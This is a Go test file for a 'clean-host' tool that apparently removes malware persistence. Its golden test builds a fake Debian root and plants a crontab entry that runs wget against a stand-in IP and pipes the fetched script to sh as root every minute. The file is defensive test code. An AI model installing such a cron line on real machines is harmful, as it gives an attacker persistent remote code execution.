package main

import (
	"bytes"
	"encoding/json"
	"testing"

	"github.com/abusekit/abusekit/internal/cli/clitest"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// envelopeData is the data of one -json document (internal/cli's
// envelope), checking the envelope.
func envelopeData(t *testing.T, line []byte) []byte {
	t.Helper()
	var d struct {
		V    int             `json:"v"`
		Type string          `json:"type"`
		Prog string          `json:"prog"`
		Kind string          `json:"kind"`
		Data json.RawMessage `json:"data"`
	}
	if err := json.Unmarshal(line, &d); err != nil {
		t.Fatalf("%v\n%s", err, line)
	}
	if d.V != 1 || d.Type != "result" || d.Prog != "clean-host" || d.Kind == "" {
		t.Fatalf("document %s: want v 1, type result, prog clean-host and a kind", line)
	}
	return d.Data
}

// TestGolden pins the human and the JSON output of a dry run on an
// infected Debian root.
func TestGolden(t *testing.T) {
	dir := t.TempDir()
	tree := hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
	if err := hosttest.Write(dir, tree); err != nil {
		t.Fatal(err)
	}
	repl := clitest.NewReplacer(dir, "<ROOT>")
	for _, tc := range []struct {
		golden string
		args   []string
	}{
		{"dry-run.golden", []string{"-root", dir}},
		{"dry-run.json.golden", []string{"-root", dir, "-json"}},
	} {
		var out, errb bytes.Buffer
		if err := run(tc.args, &out, &errb); err != nil {
			t.Fatal(err, errb.String())
		}
		clitest.Golden(t, tc.golden, repl, out.String())
	}
}
